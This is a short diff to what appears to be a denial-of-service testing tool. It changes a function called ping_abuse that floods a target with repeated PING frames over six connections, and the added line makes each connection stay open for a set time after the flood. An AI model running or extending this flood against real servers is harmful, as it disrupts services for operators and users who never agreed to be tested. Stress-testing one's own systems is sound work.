@@ -155,6 +155,7 @@ def ping_abuse(target, scale=1):
             pings = PingFrame(0, b"12345678").serialize() * 500
             for _ in range(40 * scale):
                 connection.send(pings)
+            hold(connection, HOLD_SECONDS)
 
     return on_connections(6, attack)
 
